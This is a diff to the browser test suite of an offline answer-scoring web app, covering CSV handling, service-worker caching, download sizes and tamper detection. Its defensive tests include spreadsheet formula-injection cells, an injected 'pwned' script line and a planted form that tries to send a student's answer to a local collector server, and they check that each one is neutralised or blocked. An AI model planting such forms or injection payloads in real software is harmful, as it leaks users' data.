@@ -338,7 +338,7 @@ def upload_and_score(page, name: str, data: bytes) -> str:
 
 
 CSV_JS_CHECK = r"""
-import { parseCsv, toCsv } from "./csv.js";
+import { neutralise, parseCsv, readAnswers, toCsv } from "./csv.js";
 const fixed = [
   ["a,b\nc,d", [["a", "b"], ["c", "d"]]],
   ["\ufeffid,response\r\n1,\"x, \"\"y\"\"\nz\"\r\n\r\n2,w\n", [["id", "response"], ["1", 'x, "y"\nz'], ["2", "w"]]],
@@ -358,11 +358,15 @@ for (let t = 0; t < 3000; t++) {
   const rows = Array.from({ length: 1 + rnd(4) }, () => Array.from({ length: 2 }, () =>
     Array.from({ length: 1 + rnd(6) }, () => pieces[rnd(pieces.length)]).join("")));
   const back = parseCsv(toCsv(rows), ",");
-  if (JSON.stringify(back) === JSON.stringify(rows.map((r) => r.map((c) => (/^[=+\-@\t\r]/.test(c) ? "'" + c : c))))) roundTrips++;
+  const risky = (c) => /^[\t\r]/.test(c) || /^[\s\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(c);
+  if (JSON.stringify(back) === JSON.stringify(rows.map((r) => r.map((c) => (risky(c) ? "'" + c : c))))) roundTrips++;
 }
+const cells = [" =1+1", "\uff1dSUM(A1)", "\n=cmd", "\u3000@x", "=1", "-3+4", "+1+2", "-2e3", "-1", "0.25", "+7", "1E5", "a=b", "- item"];
+const neutral = cells.map(neutralise);
 let unclosed = "";
 try { parseCsv('a,"b', ","); } catch (e) { unclosed = e.message; }
-console.log(JSON.stringify({ got, want: fixed.map(([, rows]) => rows), roundTrips, unclosed }));
+const ids = readAnswers("id,response\nrow 3,a\n,b\n,c\n", "x.csv").answers.map((a) => a.id);
+console.log(JSON.stringify({ got, want: fixed.map(([, rows]) => rows), roundTrips, unclosed, neutral, ids }));
 """
 
 
@@ -381,6 +385,9 @@ def test_the_csv_parser_reads_quotes_line_breaks_and_marks_alike(tmp_path):
     assert result["got"] == result["want"]
     assert result["roundTrips"] == 3000
     assert "ends inside a quoted field" in result["unclosed"]
+    assert result["neutral"] == ["' =1+1", "'\uff1dSUM(A1)", "'\n=cmd", "'\u3000@x", "'=1", "'-3+4", "'+1+2",
+                                 "-2e3", "-1", "0.25", "+7", "1E5", "a=b", "'- item"]
+    assert result["ids"] == ["row 3", "row 3 (no id)", "row 4"]        # a missing id never takes a real one
 
 
 def test_csv_dialects_are_detected_and_reported(site):
@@ -397,7 +404,7 @@ def test_csv_dialects_are_detected_and_reported(site):
 
     utf16 = "\ufeffid\tresponse\nz1\theat flows into the ice\n".encode("utf-16-le")
     status = upload_and_score(page, "tabs.txt", utf16)
-    assert "Done: 1 answers scored" in status and "Read as UTF-16, tab-separated." in status
+    assert "Done: 1 answer scored" in status and "Read as UTF-16, tab-separated." in status
 
     binary = bytes(range(256)) * 8
     status = upload_and_score(page, "photo.csv", binary)
@@ -463,7 +470,7 @@ def test_no_request_leaves_the_origin(site):
     page.click("#batch-button")
     page.wait_for_selector("#batch-text:has-text('Done: 30 answers')")
     origin = site["url"].rstrip("/")
-    assert recorder.requests and all(u.startswith(origin) for u in recorder.requests if "127.0.0.1" in u)
+    assert recorder.requests and all(u.startswith((origin, f"blob:{origin}/")) for u in recorder.requests if "127.0.0.1" in u)
     assert recorder.foreign(origin) == []
     assert recorder.problems == []
 
@@ -552,11 +559,13 @@ def test_offline_second_visit(dist, browser, shots, tmp_path):
         cached = page.evaluate("""async () => {
           const reg = await navigator.serviceWorker.ready;
           while (!navigator.serviceWorker.controller) await new Promise((r) => setTimeout(r, 100));
-          const names = await caches.keys();
-          const cache = await caches.open(names[0]);
-          return [names.length, (await cache.keys()).length, Object.keys((await (await fetch('manifest.json')).json()).files).length];
+          const names = (await caches.keys()).sort();
+          const own = await caches.open(names.find((n) => n !== "kd-train-files"));
+          const files = await caches.open("kd-train-files");
+          return [names.length, (await own.keys()).length, (await files.keys()).length,
+            Object.keys((await (await fetch('manifest.json')).json()).files).length];
         }""")
-        assert cached[0] == 1 and cached[1] == cached[2] + 2, cached      # every file, plus ./ and manifest.json
+        assert cached[0] == 2 and cached[1] == 2 and cached[2] == cached[3], cached   # ./ and manifest.json; every file
         stop(server)
         server = None
         page.close()
@@ -579,8 +588,11 @@ PROBS_IN_PAGE = """async (text) => {""" + START_WORKER_JS + """  const s = await
 
 
 def test_an_update_never_mixes_two_builds(scorer_dir, browser, tmp_path):
-    """Rebuilt with another model on the same origin: no visit shows a damage error, and the second
-    visit after the update scores with the new model."""
+    """Rebuilt with another model on the same origin: no visit shows a damage error, a visit that still runs
+    the old build says a new version is ready, and the second visit after the update scores with the new model.
+    Waits for the page's own signals (service worker installed, new version ready), never a fixed time."""
+    import json
+
     from kd_train.scorer import Scorer
 
     other = make_scorer(tmp_path / "other" / "demo-ice", epochs=3)
@@ -602,18 +614,125 @@ def test_an_update_never_mixes_two_builds(scorer_dir, browser, tmp_path):
             shown = score_in_page(page, text)
             assert "Suggested score:" in shown, shown
             probs = np.array(page.evaluate(PROBS_IN_PAGE, text))
-            page.wait_for_timeout(1500)                      # let a new service worker install and take over
+            # Until the build on the server is the one whose service worker controls the page: this page is
+            # that build with its service worker installed, or an older one that was told a new one is ready.
+            latest = json.loads((site / "manifest.json").read_text())["version"]
+            page.wait_for_function("""(latest) => document.body.dataset.update === "ready" || (document.body.dataset.offline
+              === "on" && document.querySelector('meta[name="kd-bundle-version"]').content === latest)""",
+                                   arg=latest, timeout=START_TIMEOUT_MS)
+            if page.get_attribute("body", "data-update") == "ready":
+                assert "A new version of this page is ready" in page.inner_text("#update")
+                notices.append(page.get_attribute('meta[name="kd-bundle-version"]', "content"))
             assert page.get_attribute("body", "data-engine") == "ready" and page.is_hidden("#error")
             assert "Suggested score:" in score_in_page(page, text)
             page.close()
             return probs
 
+        notices = []
         np.testing.assert_allclose(visit(), old, atol=1e-5)
+        assert notices == []
         bundle.build([other], site, report_sizes=False, force=True)
         first = visit()                                          # the old build or the new one, never a mix
         assert np.allclose(first, old, atol=1e-5) or np.allclose(first, new, atol=1e-5)
+        assert np.allclose(first, new, atol=1e-5) or len(notices) == 1   # the old build says a new one is ready
         np.testing.assert_allclose(visit(), new, atol=1e-5)      # the second visit uses the new model
         assert recorder.problems == []
+    finally:
+        context.close()
+        stop(server)
+
+
+class ByteCounter:
+    """What kd-train serve sends while installed on a test: (path, status, body bytes) of every response."""
+
+    def __init__(self, monkeypatch):
+        from kd_train.serve import BundleHandler
+
+        self.responses: list[list] = []
+        send_response, send_header = BundleHandler.send_response, BundleHandler.send_header
+        counter = self
+
+        def on_response(handler, code, message=None):
+            handler._counted = [handler.path, int(code), 0]
+            counter.responses.append(handler._counted)
+            send_response(handler, code, message)
+
+        def on_header(handler, keyword, value):
+            if keyword == "Content-Length" and getattr(handler, "_counted", None):
+                handler._counted[2] = int(value)
+            send_header(handler, keyword, value)
+
+        monkeypatch.setattr(BundleHandler, "send_response", on_response)
+        monkeypatch.setattr(BundleHandler, "send_header", on_header)
+
+    def take(self) -> list[list]:
+        taken, self.responses[:] = list(self.responses), []
+        return taken
+
+
+def served_size(folder: Path) -> int:
+    """The bundle's size as kd-train serve sends it to a browser that accepts brotli: each file once."""
+    from kd_train import serve as serving
+
+    total = 0
+    for path in folder.rglob("*"):
+        if path.is_file():
+            small = path.suffix in serving.NOT_COMPRESSED or path.stat().st_size < serving.COMPRESS_MIN_BYTES
+            total += path.stat().st_size if small else len(serving.compressed(path, "br"))
+    return total
+
+
+def test_a_classroom_downloads_each_byte_once(scorer_dir, browser, tmp_path, monkeypatch):
+    """Bytes kd-train serve sends to one browser (page, worker and service worker together), counted at the
+    server: the first visit costs the bundle once (not twice: the service worker installs through the HTTP
+    cache), an update that changes one scorer costs that scorer's files and the small files, and going
+    back to the build before costs no file of the bundle beyond the small ones."""
+    import json
+
+    counter = ByteCounter(monkeypatch)
+    other = make_scorer(tmp_path / "other" / "demo-ice", epochs=3)
+    site = tmp_path / "site"
+    bundle.build([scorer_dir], site, report_sizes=False)
+    size = served_size(site)
+    server, url = serve(site)
+    context = browser.new_context()
+    try:
+        def visit():
+            """A visit, until this device holds the build on the server: its service worker installed, or a
+            new version announced to a page of the older one (then one more visit runs the new one)."""
+            latest = json.loads((site / "manifest.json").read_text())["version"]
+            page = context.new_page()
+            page.goto(url)
+            page.wait_for_selector(f"{READY}, {FAILED}", state="attached", timeout=START_TIMEOUT_MS)
+            assert page.get_attribute("body", "data-engine") == "ready", page.inner_text("#error")
+            page.wait_for_function("""(latest) => document.body.dataset.update === "ready" || (document.body.dataset.offline
+              === "on" && document.querySelector('meta[name="kd-bundle-version"]').content === latest)""",
+                                   arg=latest, timeout=START_TIMEOUT_MS)
+            version = page.get_attribute('meta[name="kd-bundle-version"]', "content")
+            page.close()
+            return version == latest
+
+        assert visit()
+        first = counter.take()
+        sent = sum(n for _, code, n in first if code == 200)
+        print(f"\nfirst visit: {sent:,} bytes sent for a bundle of {size:,} bytes as served ({sent / size:.3f}x)")
+        assert sent <= 1.05 * size, sorted(first, key=lambda r: -r[2])[:10]
+
+        def update(scorer) -> list[list]:
+            bundle.build([scorer], site, report_sizes=False, force=True)
+            while not visit():
+                pass
+            return counter.take()
+
+        updated = update(other)
+        sent = sum(n for _, code, n in updated if code == 200)
+        print(f"update changing one scorer: {sent:,} bytes sent")
+        assert sent <= 300_000, sorted(updated, key=lambda r: -r[2])[:10]
+        back = update(scorer_dir)
+        small = ("/", "/index.html", "/manifest.json", "/sw.js", "/AUDIT.md")
+        fetched = [(p, n) for p, code, n in back if code == 200 and p.split("?")[0] not in small]
+        print(f"roll-back: {sum(n for _, code, n in back if code == 200):,} bytes sent, {fetched} beyond the small files")
+        assert fetched == []
     finally:
         context.close()
         stop(server)
@@ -714,26 +833,165 @@ def test_tampered_model_is_refused(dist, browser, shots, tmp_path):
         page.screenshot(path=shots / "08-tampered.png", full_page=True)
 
 
-@pytest.mark.parametrize("name", ["main.js", "csv.js"])
-def test_a_tampered_page_script_is_not_run(dist, browser, tmp_path, name):
-    """index.html pins main.js and csv.js (Subresource Integrity): the browser refuses a changed copy, and
-    the page never gets as far as scoring (nojs message stays; nothing starts)."""
+def append(path: Path, text: str) -> None:
+    path.write_bytes(path.read_bytes() + text.encode("utf-8"))
+
+
+# Each case: a copy of the bundle changed one way, in its own folder of one served tree (one build, one
+# server), visited in a fresh browser context. What the page must say, and whether it still scores.
+PAGE_TAMPERS = {
+    "worker.js": (lambda d: append(d / "worker.js", "\nself.pwned = 1;\n"), "failed"),
+    "vendor/pyodide/pyodide.mjs": (lambda d: append(d / "vendor/pyodide/pyodide.mjs", "\n// changed\n"), "failed"),
+    "vendor/pyodide/pyodide.asm.mjs": (lambda d: append(d / "vendor/pyodide/pyodide.asm.mjs", "\n// changed\n"), "failed"),
+    "vendor/ort/ort.wasm.bundle.min.mjs": (lambda d: append(d / "vendor/ort/ort.wasm.bundle.min.mjs", "\n// changed\n"), "failed"),
+    "main.js": (lambda d: append(d / "main.js", "\n// changed\n"), "refused"),
+    "csv.js": (lambda d: append(d / "csv.js", "\n// changed\n"), "refused"),
+    "style.css": (lambda d: append(d / "style.css", "\nbody { color: red; }\n"), "unstyled"),
+    "sw.js": (lambda d: append(d / "sw.js", "\n// changed\n"), "offline-off"),
+}
+
+
+def test_every_tampered_script_or_style_is_refused_by_name(dist, browser, tmp_path):
+    """Every byte the page runs is checked: a changed worker.js, Pyodide or onnxruntime-web module ends the
+    start with a refusal naming the file; a changed main.js, csv.js or style.css (refused by the browser's
+    Subresource Integrity) is named by index.html's inline watchdog, nothing hangs, a click does not submit the
+    form and the typed answer stays; a changed sw.js is not installed and the page says offline use is off."""
+    root = tmp_path / "site"
+    for n, (_, (change, _)) in enumerate(PAGE_TAMPERS.items()):
+        shutil.copytree(dist, root / f"case{n}")
+        change(root / f"case{n}")
+    (root / "index.html").write_text("<!doctype html><title>cases</title>")   # what serve() wants to see at the root
+    (root / "manifest.json").write_text("{}")
+    server, url = serve(root)
+    try:
+        for n, (name, (_, outcome)) in enumerate(PAGE_TAMPERS.items()):
+            context = browser.new_context()
+            try:
+                page = context.new_page()
+                page_url = f"{url}case{n}/"
+                page.goto(page_url)
+                if outcome == "offline-off":
+                    page.wait_for_selector("body[data-offline]", state="attached", timeout=START_TIMEOUT_MS)
+                    assert page.get_attribute("body", "data-offline") == "off", name
+                    shown = page.inner_text("#offline")
+                    assert shown.startswith("Offline use is off: sw.js did not match manifest.json"), shown
+                    assert page.evaluate("async () => (await navigator.serviceWorker.getRegistrations()).length") == 0
+                    assert "Suggested score:" in score_in_page(page, "The metal conducts heat.")
+                    continue
+                page.wait_for_selector(f"{READY}, {FAILED}", state="attached", timeout=START_TIMEOUT_MS)
+                if outcome == "failed":
+                    assert page.get_attribute("body", "data-engine") == "error", name
+                    message = page.inner_text("#error")
+                    assert f"{name} does not match manifest.json" in message and "refuses to" in message, message
+                    assert refuses_to_score(page)
+                    assert page.evaluate("() => window.pwned") is None
+                elif outcome == "refused":
+                    page.wait_for_selector("#refused:not([hidden])", timeout=60_000)
+                    assert page.get_attribute("body", "data-engine") == "error", name
+                    refused = page.inner_text("#refused")
+                    print(name, "->", refused)
+                    assert refused.startswith("The page refused ") and name in refused.split(":")[0], refused
+                    assert page.inner_text("#engine-text") == "The scorer could not start."
+                    page.click("#answer")
+                    page.keyboard.type("My typed answer.")
+                    page.click("#score-button")
+                    page.keyboard.press("Control+Enter")
+                    page.evaluate("() => new Promise((r) => requestAnimationFrame(() => setTimeout(r, 0)))")
+                    assert page.url == page_url                     # no native submit (GET ?item=...)
+                    assert page.inner_text("#answer") == "My typed answer."
+                else:                                               # unstyled: the page works, and says why it looks plain
+                    page.wait_for_selector("#refused:not([hidden])", timeout=60_000)
+                    assert "The page refused style.css" in page.inner_text("#refused")
+                    assert page.get_attribute("body", "data-engine") == "ready"
+                    assert "Suggested score:" in score_in_page(page, "The metal conducts heat.")
+            finally:
+                context.close()
+    finally:
+        stop(server)
+
+
+def test_the_host_policy_stops_a_form_that_would_send_the_answer_out(dist, browser, tmp_path):
+    """index.html edited to drop its own policy and watchdog and to wrap a text box in a form posting to another
+    server: kd-train serve's Content-Security-Policy header (form-action 'none') still stops it; nothing arrives.
+    (kd-train verify --digest refuses such a page: tests/test_build.py.)"""
+    import http.server
+    import re
+    import threading
+
+    arrived = []
+
+    class Collector(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            arrived.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        do_POST = do_GET
+
+        def log_message(self, *args):
+            pass
+
+    collector = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Collector)
+    threading.Thread(target=collector.serve_forever, daemon=True).start()
     copy = tmp_path / "dist"
     shutil.copytree(dist, copy)
-    (copy / name).write_text((copy / name).read_text() + "\n// changed\n")
+    html = (copy / "index.html").read_text(encoding="utf-8")
+    html = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)
+    html = re.sub(r"<script>.*?</script>", "", html, flags=re.S)
+    html = html.replace('<main>', f'<main><form id="evil" method="get" action="http://127.0.0.1:{collector.server_address[1]}/collect">'
+                        '<input id="evil-a" name="a"><button id="evil-go">Send</button></form>')
+    (copy / "index.html").write_text(html, encoding="utf-8")
     server, url = serve(copy)
     context = browser.new_context()
     try:
         page = context.new_page()
-        errors = []
-        page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
         page.goto(url)
-        page.wait_for_timeout(3000)
-        assert page.evaluate("document.body.dataset.engine") in (None, "")      # main.js never ran
-        assert any("integrity" in e.lower() for e in errors), errors
+        page.evaluate("""() => { window.violations = []; document.addEventListener("securitypolicyviolation",
+          (e) => window.violations.push(e.effectiveDirective)); }""")
+        page.fill("#evil-a", "a student's answer")
+        page.click("#evil-go", no_wait_after=True)     # the navigation it schedules never happens
+        page.wait_for_function("() => window.violations.length > 0", timeout=30_000)
+        assert page.evaluate("() => window.violations") == ["form-action"]
+        assert arrived == [] and page.url == url
     finally:
         context.close()
         stop(server)
+        collector.shutdown()
+        collector.server_close()
+
+
+def test_a_consistent_rewrite_of_a_scorer_shows_as_another_version(dist, browser, tmp_path):
+    """scorer.json's score values reversed, manifest.json updated and index.html re-pinned to it: plain verify
+    finds the files consistent, verify --digest refuses index.html, and the page refuses to start because the
+    scorer version it shows (a hash of every scorer file, scorer.json included) is not its files' version."""
+    import hashlib
+    import json
+
+    from kd_train.data import UserError
+
+    published = hashlib.sha256((dist / "index.html").read_bytes()).hexdigest()
+
+    def rewrite(copy: Path) -> None:
+        info_path = copy / "scorers" / "demo-ice" / "scorer.json"
+        info = json.loads(info_path.read_text())
+        info["score_values"] = info["score_values"][::-1]
+        info_path.write_text(json.dumps(info))
+        manifest = json.loads((copy / "manifest.json").read_text())
+        data = info_path.read_bytes()
+        manifest["files"]["scorers/demo-ice/scorer.json"] = {"sha256": hashlib.sha256(data).hexdigest(), "bytes": len(data)}
+        old = hashlib.sha256((copy / "manifest.json").read_bytes()).hexdigest()
+        (copy / "manifest.json").write_text(json.dumps(manifest, indent=1, sort_keys=True) + "\n")
+        new = hashlib.sha256((copy / "manifest.json").read_bytes()).hexdigest()
+        (copy / "index.html").write_text((copy / "index.html").read_text().replace(old, new))
+
+    with tampered_page(dist, browser, tmp_path, rewrite) as page:
+        message = page.inner_text("#error")
+        assert "refused question demo-ice's scorer" in message and "this page was changed" in message, message
+        assert refuses_to_score(page)
+        copy = tmp_path / "dist"
+        assert bundle.verify(copy)["published"] is False                 # consistent: plain verify passes
+        with pytest.raises(UserError, match="not the published digest"):
+            bundle.verify(copy, published)
 
 
 def test_tampered_snapshot_is_refused(dist, browser, tmp_path):
